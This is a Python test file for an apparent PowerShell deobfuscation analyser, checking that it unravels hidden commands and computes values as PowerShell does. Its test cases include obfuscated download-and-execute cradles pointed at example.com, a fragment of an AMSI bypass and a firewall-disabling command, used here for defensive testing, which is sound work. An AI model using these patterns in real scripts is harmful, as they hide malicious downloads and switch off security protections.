"""The reader of PowerShell through its door: calls with decoded words, code made of text, the clear form, stops."""

from __future__ import annotations

import pytest

from vedette.commands.base import Reading, Scope
from vedette.commands.budget import Budget
from vedette.commands.powershell import read
from vedette.commands.powershell.methods import METHODS
from vedette.schema.command import Language

URL = "http://example.com/a.ps1"


def reading(text: str, **known: object) -> Reading:
    return read(text, Scope(Budget(), **known))  # type: ignore[arg-type]


def words(text: str) -> list[list[str]]:
    return [[c.name.text, *[w.text for w in c.args]] for c in reading(text).calls]


PLAIN = [
    "Get-Process | Where-Object {$_.CPU -gt 10}",
    "Get-ChildItem C:\\Users -Recurse -Include *.doc,*.xls | Copy-Item -Destination D:\\x",
    'Write-Host "Hello $env:USERNAME, it is $(Get-Date)"',
    "if (Test-Path 'C:\\x') { Remove-Item 'C:\\x' -Force } else { New-Item 'C:\\x' }",
    "foreach ($p in Get-Process) { $p.Name }",
    '& "C:\\Program Files\\App\\app.exe" --flag',
    "git commit -m 'a message' && git push",
    "netsh advfirewall set allprofiles state off",
    "Start-Sleep (5*60)",
    "1..10 | ForEach-Object { ping -n 1 192.0.2.$_ }",
    "try { Get-Item x -ErrorAction Stop } catch { exit 1 }",
    "function Get-It([string]$n) { Get-ChildItem $n }\nGet-It .",
]


@pytest.mark.parametrize("text", PLAIN)
def test_leaves_ordinary_commands_as_they_are(text: str) -> None:
    found = reading(text)
    assert found.clear is None
    assert found.methods == ()
    assert not found.broken
    assert found.calls


@pytest.mark.parametrize("method", METHODS, ids=lambda m: m.id)
def test_undoes_every_way_of_hiding_that_it_names(method: object) -> None:
    found = reading(method.example)  # type: ignore[attr-defined]
    texts = [found.clear or "", *[x.text for x in found.nested]]
    assert any(method.shows in t for t in texts), texts  # type: ignore[attr-defined]
    assert method.id in {*found.methods, *[h for x in found.nested for h in x.methods]}  # type: ignore[attr-defined]


def test_names_at_least_thirty_ways_each_once() -> None:
    ids = [m.id for m in METHODS]
    assert len(ids) == len(set(ids)) >= 30


CLEAR = [
    ("&('i'+'ex') ('ht'+'tp://'+'example.com')", "iex 'http://example.com'"),
    ("I`E`X (('{1}{0}' -f 'ost 1','Write-H'))", "IEX 'Write-Host 1'"),
    ("& ($ShellId[1]+$ShellId[13]+'x') 'a-b'", "iex 'a-b'"),
    (".((gv '*mdr*').Name[3,11,2]-join'') 'x-y'", "iex 'x-y'"),
    ("&( $VerbosePreference.ToString()[1,3]+'x'-join'') 'x-y'", "iex 'x-y'"),
    ("&($env:Public[13]+$env:Public[5]+'x') 'x-y'", "iex 'x-y'"),
    ("& (gcm inv*ke-e*n) 'x-y'", "Invoke-Expression 'x-y'"),
    ("$a='hXp://example.com';$b=$a.Replace('X','tt'); iwr $b", "iwr 'http://example.com'"),
    (
        "(New-Object ('Net.Web'+'Client')).('Down'+'loadString')('x')",
        "(New-Object 'Net.WebClient').DownloadString('x')",
    ),
    ("iwr \"$env:TEMP\\$('a'+'b').exe\"", 'iwr "$env:TEMP\\ab.exe"'),
    ("iwr ('a'+$unknown+'b'+'c')", None),
    ("if($x){$u='a'+'b'}else{$u='c'+'d'}; iwr $u", "if($x){$u='ab'}else{$u='cd'}; iwr $u"),
]


@pytest.mark.parametrize(("text", "clear"), CLEAR)
def test_writes_out_what_it_computes(text: str, clear: str | None) -> None:
    found = reading(text).clear
    if clear is None:
        assert found is None or "$unknown" in found
    else:
        assert found == clear


NOT_FOLDED = [
    ("foreach($i in 1,2){ iwr ('http://example.com/'+$i) }", ["http://example.com/1", "http://example.com/2"]),
    ("1..2|%{ iwr ('http://example.com/'+$_) }", ["http://example.com/1", "http://example.com/2"]),
    ("function f($x){ iwr ('http://'+$x) }; f a; f b", ["http://a", "http://b"]),
]


@pytest.mark.parametrize(("text", "urls"), NOT_FOLDED)
def test_states_each_value_of_a_loop_and_folds_none(text: str, urls: list[str]) -> None:
    found = reading(text)
    assert [c.args[0].text for c in found.calls if c.name.text == "Invoke-WebRequest"] == urls
    assert not any(u in (found.clear or "") for u in urls)


VALUES = [
    ("-join 'a','b'", "a\r\nb"),
    ("-join('a','b')", "ab"),
    ("'a','b' -join '-'", "a-b"),
    ("'{0:X2}{1:d3}|{2,4}|{3:N1}' -f 255,7,'x',2.25", "FF007|   x|2.2"),
    ("'{{{0}}}' -f 1", "{1}"),
    ("'abc'[-1..-3] -join ''", "cba"),
    ("'abcdef'.Substring(2,3).ToUpper()", "CDE"),
    ("'a1b2' -replace '(\\w)(\\d)','$2$1'", "1a2b"),
    ("'aXbxc' -creplace 'x','-'", "aXb-c"),
    ("('a b  c' -split '\\s+').Count", "3"),
    ("[char]65+[char]66", "AB"),
    ("[char]65+1", "66"),
    ("'1'+1", "11"),
    ("1+'1'", "2"),
    ("[int]'0x41'", "65"),
    ("0x1F -bxor 3", "28"),
    ("-bnot 5", "-6"),
    ("1 -shl 4", "16"),
    ("[Convert]::ToString(255,2)", "11111111"),
    ("7/2", "3.5"),
    ("-7%3", "-1"),
    ("[int]2.5", "2"),
    ("'ab'*3", "ababab"),
    ("(1,2)*2 -join ','", "1,2,1,2"),
    ("$a=1..3; [array]::Reverse($a); $a -join ''", "321"),
    ("@{a='x'}.a", "x"),
    ('$i=0; while($i -lt 3){$i++}; "n$i"', "n3"),
    ("$s=''; for($i=3;$i -gt 0;$i--){$s+=$i}; $s", "321"),
    ("switch('b'){'a'{'1'}'b'{'2'}default{'3'}}", "2"),
    ("(3,1,2|sort) -join ''", "123"),
    ("('a','b','c'|select -last 2) -join ''", "bc"),
    ("& {param($x) $x*2} 'ab'", "abab"),
    ("function r($n){ if($n -le 0){''} else {\"$n\"+(r ($n-1))} }; r 3", "321"),
    ("\"`$x $('a'+'b') ${null}!\"", "$x ab !"),
    ("'it''s'", "it's"),
    ("@'\na\nb\n'@", "a\nb"),
    ("\u201csmart\u201d", "smart"),
    ("'a','b' \u2013join ''", "ab"),
    ("'abc' -match 'b'", "True"),
    ("'abc' -like 'A*'", "True"),
    ("'b' -in 'a','b'", "True"),
    ("[string]::Format('{0}-{1}','a','b')", "a-b"),
    ("[BitConverter]::ToString([byte[]](1,255))", "01-FF"),
    ("[regex]::Replace('abc','b','X')", "aXc"),
    ("$x = 'a' + `\n 'b'; $x", "ab"),
    ("'a' <# c #> + 'b' # end", "ab"),
    ("[Text.Encoding]::ASCII.GetString((New-Object byte[] 2)).Length", "2"),
    ("$h=@{}; $h['k']='v'; $h.k", "v"),
    ("(Get-Alias iex).Definition", "Invoke-Expression"),
    ("$null -eq $null", "True"),
]


@pytest.mark.parametrize(("text", "value"), VALUES)
def test_computes_as_powershell_does(text: str, value: str) -> None:
    output = reading(text).output
    assert output is not None
    assert output.decode().removesuffix("\r\n") == value


def test_keeps_parts_that_only_running_would_tell() -> None:
    (call,) = reading('Start-Process "$env:APPDATA\\x\\a.exe"').calls
    assert call.args[0].text == "$env:APPDATA\\x\\a.exe"
    assert not call.args[0].known


METHOD_CALLS = [
    (
        "(New-Object System.Net.WebClient).DownloadFile('http://example.com/x','C:\\x.exe')",
        ["Net.WebClient.DownloadFile", "http://example.com/x", "C:\\x.exe"],
    ),
    ("(New-Object -ComObject wscript.shell).Run('calc',0)", ["WScript.Shell.Run", "calc", "0"]),
    ("[sYSTEM.io.fILE]::WriteAllText('C:\\a','b')", ["IO.File.WriteAllText", "C:\\a", "b"]),
    ("[Diagnostics.Process]::Start('c'+'alc')", ["Diagnostics.Process.Start", "calc"]),
    (
        "[Ref].Assembly.GetType('A'+'msi').GetField('x','NonPublic,Static').SetValue($null,$true)",
        ["Reflection.FieldInfo.SetValue", "$null", "$true"],
    ),
]


@pytest.mark.parametrize(("text", "expected"), METHOD_CALLS)
def test_names_methods_with_their_type(text: str, expected: list[str]) -> None:
    assert expected in words(text)
    assert all(c.method for c in reading(text).calls if c.name.text == expected[0])


def test_undoes_aliases_and_splatting() -> None:
    assert words("$p=@{Uri='http://example.com';Method='Post'}; irm @p") == [
        ["Invoke-RestMethod", "-Uri", "http://example.com", "-Method", "Post"]
    ]


def test_says_that_a_download_is_not_known() -> None:
    found = reading("iex (New-Object Net.WebClient).DownloadString('http://example.com/x')")
    assert "what it downloads is not known" in found.stops
    assert not found.nested


def test_gives_a_loaded_assembly_as_bytes() -> None:
    (nested,) = reading("[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAA='))").nested
    assert nested.language is Language.BINARY
    assert nested.text.encode("latin-1")[:2] == b"MZ"


NESTED = [
    "iex 'Write-Host 7'",
    "'Write-Host 7' | iex",
    "$ExecutionContext.InvokeCommand.InvokeScript('Write-Host 7')",
    "[scriptblock]::Create('Write-Host 7').Invoke()",
    "& ([scriptblock]::Create('Write-Host 7'))",
    "& $ExecutionContext.InvokeCommand.NewScriptBlock('Write-Host 7')",
    "icm -ScriptBlock ([scriptblock]::Create('Write-Host 7'))",
    "Set-Alias zz Invoke-Expression; zz 'Write-Host 7'",
    "$f='iex'; & $f 'Write-Host 7'",
    "[powershell]::Create().AddScript('Write-Host 7').Invoke()",
    "'Write-Host 7' | Set-Content C:\\t.ps1; C:\\t.ps1",
]


@pytest.mark.parametrize("text", NESTED)
def test_hands_text_that_runs_on_as_code(text: str) -> None:
    assert [x.text.strip() for x in reading(text).nested] == ["Write-Host 7"]


def test_hands_variables_and_functions_down() -> None:
    (nested,) = reading("$k='http://example.com'; function q($x){$x+'/z'}; iex 'iwr (q $k)'").nested
    below = read(nested.text, Scope(Budget(), environment=nested.environment or {}))
    assert [w.text for c in below.calls for w in c.args] == ["http://example.com/z"]


def test_reads_branches_that_may_not_run_without_being_sure() -> None:
    found = reading("if ($env:COMPUTERNAME -eq 'x') { iwr http://example.com/1 } else { iwr http://example.com/2 }")
    assert [(c.args[0].text, c.sure) for c in found.calls] == [
        ("http://example.com/1", False),
        ("http://example.com/2", False),
    ]


def test_skips_a_branch_that_is_computed_not_to_run() -> None:
    assert words("if (1 -eq 2) { iwr http://example.com/1 } else { calc }") == [["calc"]]


def test_ends_an_endless_loop_after_a_round() -> None:
    budget = Budget()
    found = read("while($true){ Start-Sleep 5; iwr http://example.com }", Scope(budget))
    assert ["Start-Sleep", "Invoke-WebRequest"] == [c.name.text for c in found.calls]
    assert budget.steps > 59_000


def test_stops_where_a_value_grows_beyond_bounds() -> None:
    found = reading("$a='x'*999999; $b=$a*999999; iwr http://example.com")
    assert found.stops


def test_gives_spans_of_words() -> None:
    text = "iwr ('http://'+'example.com') -OutFile 'a.exe'"
    (call,) = reading(text).calls
    assert [text[w.start : w.end] for w in (call.name, *call.args)] == [
        "iwr",
        "('http://'+'example.com')",
        "-OutFile",
        "'a.exe'",
    ]


def test_takes_environment_that_the_command_set() -> None:
    found = reading("iex $env:payload", environment={"PAYLOAD": "Write-Host 7"})
    assert [x.text for x in found.nested] == ["Write-Host 7"]


def test_tells_operators_keywords_variables_and_comments() -> None:
    text = "if ($x -bxor 1) { 'a' | iex } # why"
    kinds = {text[p.start : p.end]: p.kind.value for p in reading(text).parts}
    assert kinds == {"if": "keyword", "$x": "variable", "-bxor": "operator", "|": "operator", "# why": "comment"}


def test_knows_no_parameter_that_a_caller_may_give() -> None:
    (call,) = reading('param($u) iwr "http://$u/x"').calls
    assert not call.args[0].known
    assert call.args[0].text == "http://$u/x"


def test_leaves_out_what_is_spent_and_keeps_what_is_not() -> None:
    assert reading("$a='x';$b=$a+'y';$keep='http://example.com'; Write-Host $b").clear == (
        "$keep='http://example.com'; Write-Host 'xy'"
    )
    assert reading("$a='x'; $f={ $a }; Write-Host ($a+'y')").clear is not None
    assert "$a='x'" in (reading("$a='x'; $f={ $a }; Write-Host ($a+'y')").clear or "")


def test_reads_both_ways_of_a_choice_into_a_call() -> None:
    found = reading("if($q){$u='http://example.com/1'}else{$u='http://example.com/2'}; iwr $u")
    assert [(c.args[0].text, c.sure) for c in found.calls] == [
        ("http://example.com/1", False),
        ("http://example.com/2", False),
    ]
